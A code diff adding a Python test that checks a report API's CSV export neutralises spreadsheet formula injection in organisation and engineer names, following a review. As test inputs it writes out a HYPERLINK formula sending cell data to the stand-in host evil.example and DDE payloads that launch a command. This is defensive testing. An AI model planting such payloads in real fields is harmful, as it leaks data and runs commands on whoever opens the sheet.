@@ -152,3 +152,36 @@ async def test_the_report_api_in_json_and_csv(broker: RunningBroker, clock: Fake
         assert status == 400 and err["error"]["code"] == "invalid_field", (bad, err)
     status, _, _ = await broker.request("GET", "/api/v1/reports/sla", token=eng)
     assert status == 403
+
+
+async def test_csv_neutralises_formulas_in_client_and_staff_names(
+    broker: RunningBroker, clock: FakeClock
+) -> None:
+    """Review of 2026-12-04: an unauthenticated client names its organisation, the OIDC
+    provider names the engineer; a cell starting with = + - @ (or a tab) ran as a
+    formula in the supervisor's spreadsheet. Such cells start with an apostrophe now."""
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
+    await _request(broker, hostile)
+    await _request(broker, "+cmd|' /C calc'!A0")
+    await _request(broker, "\t=1+1")
+    await broker.create_user("mal", "engineer", name="@SUM(1+1)*cmd|' /C calc'!A0")
+    mal = await queries.get_user_by_username(broker.app[DB], "mal")
+    assert mal is not None
+    sid = await _request(broker, "-2+3")
+    clock.advance(60)
+    await queries.mark_answered(broker.app[DB], sid, mal.id, clock.now_ms())
+    sup = await staff(broker, "sue", "supervisor")
+    cells: list[str] = []
+    for by in ("organisation", "engineer"):
+        status, text, _ = await broker.request(
+            "GET", f"/api/v1/reports/sla?format=csv&by={by}", token=sup
+        )
+        assert status == 200, text
+        for line in list(csv.reader(io.StringIO(text)))[1:]:
+            cells.extend(line[:2])
+    assert "'" + hostile in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
+    assert "'=1+1" in cells and "'-2+3" in cells  # the tab was trimmed by the broker
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    # JSON is data, not a spreadsheet: the names are kept exactly.
+    _, body, _ = await broker.request("GET", "/api/v1/reports/sla", token=sup)
+    assert hostile in [r["label"] for r in body["rows"]]
